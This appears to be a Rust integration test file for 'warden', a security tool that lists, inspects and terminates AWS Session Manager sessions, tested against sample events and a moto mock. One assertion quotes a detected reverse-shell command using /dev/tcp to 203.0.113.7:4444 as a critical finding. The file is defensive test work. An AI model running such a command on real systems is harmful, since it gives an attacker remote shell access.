//! `warden sessions` as an investigator runs it: on a replay state file of the sample events
//! (which sessions a question selects, one session's timeline and links, terminating one), and
//! against moto server's DynamoDB and STS with Session Manager's `TerminateSession` stood in for
//! (skipped without moto server, like the other adapter tests; `scripts/test` starts it).

#[path = "support/moto.rs"]
mod moto;
#[path = "support/terminate_stand_in.rs"]
mod terminate_stand_in;

use serde_json::Value;
use std::path::PathBuf;
use std::process::{Command, Output};

const EVENTS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/events");

fn warden(args: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_warden"));
    command.args(args);
    for (name, _) in std::env::vars_os() {
        let name = name.to_string_lossy().into_owned();
        if name.starts_with("WARDEN_") || name.starts_with("AWS_") {
            command.env_remove(name);
        }
    }
    command.output().expect("warden runs")
}

/// A state file of the sample events, removed when dropped.
struct State(PathBuf);

impl State {
    fn replayed(name: &str) -> State {
        let path = std::env::temp_dir().join(format!(
            "warden-sessions-{name}-{}.json",
            std::process::id()
        ));
        let _ = std::fs::remove_file(&path);
        let out = warden(&["replay", "--state", path.to_str().unwrap(), EVENTS]);
        assert!(out.status.success(), "{out:?}");
        State(path)
    }

    fn path(&self) -> &str {
        self.0.to_str().unwrap()
    }

    fn sessions(&self, args: &[&str]) -> Output {
        let mut all = vec!["sessions"];
        all.extend_from_slice(args);
        all.extend_from_slice(&["--state", self.path()]);
        warden(&all)
    }

    /// The ids `sessions list ARGS --format json` prints, in order.
    fn listed(&self, args: &[&str]) -> Vec<String> {
        let mut all = vec!["list", "--format", "json"];
        all.extend_from_slice(args);
        let out = self.sessions(&all);
        assert!(out.status.success(), "{args:?}: {out:?}");
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(|l| {
                let v: Value = serde_json::from_str(l).unwrap();
                v["session_id"].as_str().unwrap().to_string()
            })
            .collect()
    }
}

impl Drop for State {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

fn short(ids: &[String]) -> Vec<&str> {
    ids.iter()
        .map(|id| id.rsplit_once('-').map_or(id.as_str(), |(name, _)| name))
        .collect()
}

#[test]
fn list_selects_by_every_condition_given() {
    let state = State::replayed("list");
    assert_eq!(
        short(&state.listed(&["--flagged", "--active"])),
        ["judy", "carol", "oscar", "erin"]
    );
    assert_eq!(short(&state.listed(&["--user", "CAROL"])), ["carol"]);
    assert_eq!(
        short(&state.listed(&["--user", "*/Operator/*", "--limit", "1"])),
        ["judy"]
    );
    assert_eq!(
        short(&state.listed(&["--instance", "i-0d3e4f5a6b7c81920"])),
        ["frank", "erin"]
    );
    assert!(state.listed(&["--account", "999999999999"]).is_empty());
    // Every sample session is in 111122223333 but oscar's, in a member account.
    assert_eq!(
        short(&state.listed(&["--account", "222233334444"])),
        ["oscar"]
    );
    assert_eq!(
        state.listed(&["--account", "111122223333"]).len(),
        state.listed(&[]).len() - 1
    );
    // Open at any time since the 28th: the sessions still active, and those that ended since.
    let since = state.listed(&["--since", "2026-11-28"]);
    let since = short(&since);
    assert!(since.contains(&"carol") && since.contains(&"dana@example.com"));
    assert!(!since.contains(&"bob"), "{since:?}");
    assert_eq!(
        state.listed(&["--since", "2026-11-28T00:00:00+00:00"]),
        state.listed(&["--since", "2026-11-28"])
    );
    // An age counts back from now: the samples are in the past or the future, never both.
    assert!(state.listed(&["--since", "1w"]).len() >= state.listed(&["--active"]).len());
}

#[test]
fn list_prints_a_table_or_says_nothing_matched() {
    let state = State::replayed("table");
    let out = state.sessions(&["list", "--user", "carol"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.starts_with("SESSION "), "{text}");
    assert!(
        text.contains("\ncarol-5e48b7f8b97acc971  active  carol"),
        "{text}"
    );
    let none = state.sessions(&["list", "--user", "nobody"]);
    assert!(none.status.success());
    assert!(none.stdout.is_empty());
    assert_eq!(String::from_utf8_lossy(&none.stderr), "no sessions match\n");
}

#[test]
fn an_unreadable_since_says_what_it_takes() {
    let state = State::replayed("since");
    for bad in ["yesterday", "2 h", "3 days"] {
        let out = state.sessions(&["list", "--since", bad]);
        assert_eq!(out.status.code(), Some(2), "{bad}");
        assert!(out.stdout.is_empty());
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains("--since:") && err.contains("RFC 3339"),
            "{err}"
        );
    }
}

#[test]
fn show_tells_the_session_in_time_order_with_links() {
    let state = State::replayed("show");
    let out = state.sessions(&["show", "carol-5e48b7f8b97acc971"]);
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    let timeline: Vec<&str> = text
        .lines()
        .skip_while(|l| *l != "TIMELINE")
        .skip(1)
        .take_while(|l| !l.is_empty())
        .collect();
    let kinds: Vec<&str> = timeline
        .iter()
        .map(|l| l.split_whitespace().nth(1).unwrap())
        .collect();
    assert_eq!(
        kinds[..4],
        ["start", "transcript", "finding", "finding"],
        "{text}"
    );
    assert!(
        timeline[0].starts_with("  2026-11-28T23:12:05Z  start "),
        "{text}"
    );
    assert!(
        timeline[3].ends_with(
            "remote_exec_c2.reverse_shell (critical, terminate) line 5: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
        ),
        "{text}"
    );
    // The replay's alerts and dry-run termination, at the time it made them.
    assert!(
        kinds.contains(&"alert") && kinds.contains(&"termination"),
        "{text}"
    );
    assert!(
        text.contains(
            "\nLINKS\n  Sessions:    https://eu-west-1.console.aws.amazon.com/systems-manager/session-manager/sessions?region=eu-west-1&tab=history\n"
        ),
        "{text}"
    );
    assert!(text.contains("  Transcript:  https://"), "{text}");
    assert!(text.contains("  CloudTrail:  https://"), "{text}");
}

#[test]
fn show_json_carries_the_timeline_and_links() {
    let state = State::replayed("json");
    let out = state.sessions(&["show", "bob-2731a0ce76f67ca89", "--format", "json"]);
    let value: Value = serde_json::from_slice(&out.stdout).unwrap();
    let kinds: Vec<&str> = value["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds[0], "start");
    assert!(kinds.contains(&"end"), "{value}");
    assert_eq!(value["timeline"][0]["at"], "2026-11-23T13:02:11Z");
    assert!(
        value["links"]["cloudtrail_event"]
            .as_str()
            .unwrap()
            .ends_with("#/events/816f116c-9967-40f4-81bd-940d5331a905"),
        "{value}"
    );
    assert_eq!(value["alerts"][0]["kind"], "no_mfa");
}

#[test]
fn without_a_source_it_says_where_sessions_can_come_from() {
    let out = warden(&["sessions", "list"]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("--state FILE") && err.contains("--table NAME"),
        "{err}"
    );
}

fn json_of(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("not one JSON object ({e}): {out:?}"))
}

#[test]
fn terminate_in_a_state_file_records_local_and_is_safe_to_repeat() {
    let state = State::replayed("terminate");
    let carol = "carol-5e48b7f8b97acc971";
    let out = state.sessions(&["terminate", carol, "--reason", "INC-42 reverse shell"]);
    assert!(out.status.success(), "{out:?}");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.starts_with(&format!("terminated {carol} at 2")),
        "{text}"
    );
    assert!(
        text.contains("requested by local, reason: INC-42 reverse shell (in the state file only"),
        "{text}"
    );
    let shown = json_of(&state.sessions(&["show", carol, "--format", "json"]));
    assert_eq!(shown["state"], "terminated");
    assert_eq!(shown["terminated_by"], "local");
    assert_eq!(shown["termination_reason"], "INC-42 reverse shell");
    assert_eq!(shown["terminated_at"], shown["ended_at"]);
    let last = shown["timeline"]
        .as_array()
        .unwrap()
        .last()
        .unwrap()
        .clone();
    assert_eq!(last["kind"], "end", "{shown}");

    // Again: said, nothing changed, exit 0.
    let again = state.sessions(&["terminate", carol, "--reason", "again", "--format", "json"]);
    assert!(again.status.success(), "{again:?}");
    let again = json_of(&again);
    assert_eq!(again["outcome"], "already_over");
    assert_eq!(again["terminated_by"], "local");
    assert_eq!(again["termination_reason"], "INC-42 reverse shell");
    assert_eq!(
        json_of(&state.sessions(&["show", carol, "--format", "json"])),
        shown
    );
    let ended = state.sessions(&["terminate", "alice-ea1181f76f3adcbdc", "--reason", "x"]);
    assert!(ended.status.success());
    assert!(
        String::from_utf8_lossy(&ended.stdout).contains(
            "is already ended (since 2026-11-23T10:02:19Z, by session-manager); nothing to do"
        ),
        "{ended:?}"
    );
}

#[test]
fn terminate_refuses_what_it_cannot_do_and_says_why() {
    let state = State::replayed("refuse");
    let missing = state.sessions(&["terminate", "nobody-1", "--reason", "x"]);
    assert_eq!(missing.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&missing.stderr).contains("no session nobody-1"),
        "{missing:?}"
    );
    let blank = state.sessions(&["terminate", "judy-0c4e9b2a7d15f3e86", "--reason", " "]);
    assert_eq!(blank.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&blank.stderr).contains("give a reason"));
    let shown = json_of(&state.sessions(&["show", "judy-0c4e9b2a7d15f3e86", "--format", "json"]));
    assert_eq!(shown["state"], "active");
    // --reason is required.
    let none = state.sessions(&["terminate", "judy-0c4e9b2a7d15f3e86"]);
    assert_eq!(none.status.code(), Some(2));
}

/// The binary against moto through the stand-in: sessions replayed into a fresh table.
struct Deployed {
    stand_in: terminate_stand_in::TerminateStandIn,
    table: String,
    sdk: aws_config::SdkConfig,
}

impl Deployed {
    async fn new(endpoint: &str, refused: &[&str]) -> Deployed {
        Deployed::named(endpoint, refused, moto::unique("sessions-cli")).await
    }

    async fn named(endpoint: &str, refused: &[&str], table: String) -> Deployed {
        let sdk = moto::sdk_config(endpoint).await;
        moto::create_table(&aws_sdk_dynamodb::Client::new(&sdk), &table).await;
        let topic = aws_sdk_sns::Client::new(&sdk)
            .create_topic()
            .name(&table)
            .send()
            .await
            .unwrap()
            .topic_arn
            .unwrap();
        let out = Command::new(env!("CARGO_BIN_EXE_warden"))
            .args(["replay", "--endpoint-url", endpoint, "--table", &table])
            .args(["--topic-arn", &topic, &format!("{EVENTS}/1-cloudtrail")])
            .env_remove("AWS_ENDPOINT_URL")
            .env_remove("WARDEN_EXEMPT_PRINCIPALS")
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        Deployed {
            stand_in: terminate_stand_in::TerminateStandIn::start(endpoint, refused),
            table,
            sdk,
        }
    }

    fn sessions(&self, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_warden"))
            .arg("sessions")
            .args(args)
            .args([
                "--table",
                &self.table,
                "--endpoint-url",
                self.stand_in.url(),
            ])
            .env_remove("AWS_ENDPOINT_URL")
            .output()
            .unwrap()
    }

    async fn stored(
        &self,
        id: &str,
    ) -> warden_core::ports::Versioned<warden_core::session::SessionRecord> {
        use warden_core::ports::SessionStore;
        let store = warden_core::aws::DynamoStore::new(
            aws_sdk_dynamodb::Client::new(&self.sdk),
            &self.table,
            400,
        );
        store
            .load(id)
            .await
            .unwrap()
            .expect("the session is in the table")
    }
}

#[tokio::test]
async fn the_table_is_found_from_the_stack_name() {
    let Some(endpoint) = moto::endpoint() else {
        return;
    };
    let stack = moto::unique("stack");
    let deployed =
        Deployed::named(&endpoint, &[], format!("{stack}-SessionsTable-1Q2W3E4R5T")).await;
    let by_stack = |stack: &str| {
        Command::new(env!("CARGO_BIN_EXE_warden"))
            .args(["sessions", "list", "--stack", stack, "--format", "json"])
            .args(["--endpoint-url", deployed.stand_in.url()])
            .env_remove("AWS_ENDPOINT_URL")
            .env_remove("WARDEN_TABLE")
            .output()
            .unwrap()
    };
    let listed = by_stack(&stack);
    assert!(listed.status.success(), "{listed:?}");
    assert!(
        String::from_utf8_lossy(&listed.stdout).contains("carol-5e48b7f8b97acc971"),
        "{listed:?}"
    );
    let missing = by_stack("no-such-stack");
    assert!(!missing.status.success());
    assert!(
        String::from_utf8_lossy(&missing.stderr).contains("no table of stack no-such-stack"),
        "{missing:?}"
    );
}

#[tokio::test]
async fn against_aws_list_show_and_terminate_with_the_callers_identity() {
    let Some(endpoint) = moto::endpoint() else {
        return;
    };
    let deployed = Deployed::new(&endpoint, &["erin-85d014b567557d391"]).await;

    let listed = deployed.sessions(&[
        "list",
        "--flagged",
        "--active",
        "--user",
        "*/Operator/*",
        "--format",
        "json",
    ]);
    assert!(listed.status.success(), "{listed:?}");
    let ids: Vec<String> = String::from_utf8_lossy(&listed.stdout)
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["session_id"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    assert_eq!(short(&ids), ["judy", "carol"], "{ids:?}");
    let shown = deployed.sessions(&["show", "carol-5e48b7f8b97acc971"]);
    let text = String::from_utf8_lossy(&shown.stdout);
    assert!(
        text.contains("\nTIMELINE\n  2026-11-28T23:12:05Z  start "),
        "{shown:?}"
    );
    assert!(text.contains("\nLINKS\n"), "{text}");

    let carol = "carol-5e48b7f8b97acc971";
    let before = deployed.stored(carol).await;
    let out = deployed.sessions(&["terminate", carol, "--reason", "INC-42", "--format", "json"]);
    assert!(out.status.success(), "{out:?}");
    let done = json_of(&out);
    assert_eq!(done["outcome"], "terminated");
    // moto's caller identity, from sts:GetCallerIdentity.
    let by = done["requested_by"].as_str().unwrap().to_string();
    assert!(by.starts_with("arn:aws:"), "{done}");
    assert_eq!(deployed.stand_in.terminated(), [carol]);
    let after = deployed.stored(carol).await;
    assert_eq!(after.version, before.version + 1);
    let r = &after.value;
    assert_eq!(r.state, warden_core::session::SessionState::Terminated);
    assert_eq!(r.terminated_by.as_deref(), Some(by.as_str()));
    assert_eq!(r.termination_reason.as_deref(), Some("INC-42"));
    assert_eq!(
        r.terminated_at.map(|t| t.to_string()),
        done["terminated_at"].as_str().map(str::to_string)
    );
    // Everything else the functions wrote is still there.
    assert_eq!(
        (&r.flags, &r.applied_events),
        (&before.value.flags, &before.value.applied_events)
    );

    // Asking again: said, nothing called or written, exit 0.
    let again = deployed.sessions(&["terminate", carol, "--reason", "again"]);
    assert!(again.status.success(), "{again:?}");
    assert!(
        String::from_utf8_lossy(&again.stdout).contains("is already terminated"),
        "{again:?}"
    );
    assert_eq!(deployed.stand_in.terminated(), [carol]);
    assert_eq!(deployed.stored(carol).await.version, after.version);

    // Session Manager refuses: exit 1, the refusal and what to do, nothing recorded.
    let erin = "erin-85d014b567557d391";
    let refused = deployed.sessions(&["terminate", erin, "--reason", "INC-43"]);
    assert_eq!(refused.status.code(), Some(1), "{refused:?}");
    let err = String::from_utf8_lossy(&refused.stderr);
    assert!(
        err.contains(
            "Session Manager refused to terminate erin-85d014b567557d391: AccessDeniedException"
        ),
        "{err}"
    );
    assert!(err.contains("IAM policy"), "{err}");
    let erin_record = deployed.stored(erin).await;
    assert!(erin_record.value.is_active() && erin_record.value.terminated_by.is_none());
}

#[tokio::test]
async fn against_aws_a_member_account_session_is_refused_naming_the_account_without_a_role() {
    let Some(endpoint) = moto::endpoint() else {
        return;
    };
    let deployed = Deployed::new(&endpoint, &[]).await;
    // A session the central functions recorded for member account 222233334444.
    let store = warden_core::aws::DynamoStore::new(
        aws_sdk_dynamodb::Client::new(&deployed.sdk),
        &deployed.table,
        400,
    );
    let mut member =
        warden_core::session::SessionRecord::for_key("222233334444/zed-0a1b2c3d4e5f67890");
    member.started_at = Some("2026-11-28T20:00:00Z".parse().unwrap());
    warden_core::ports::SessionStore::save(&store, &member, None)
        .await
        .unwrap();

    let shown = deployed.sessions(&["show", "zed-0a1b2c3d4e5f67890"]);
    assert!(
        shown.status.success(),
        "a bare id held by one account: {shown:?}"
    );
    let out = deployed.sessions(&[
        "terminate",
        "zed-0a1b2c3d4e5f67890",
        "--reason",
        "INC-1 containment",
    ]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("222233334444") && stderr.contains("WARDEN_MEMBER_ROLE_NAME"),
        "{stderr}"
    );
    assert!(deployed.stand_in.terminated().is_empty());
}
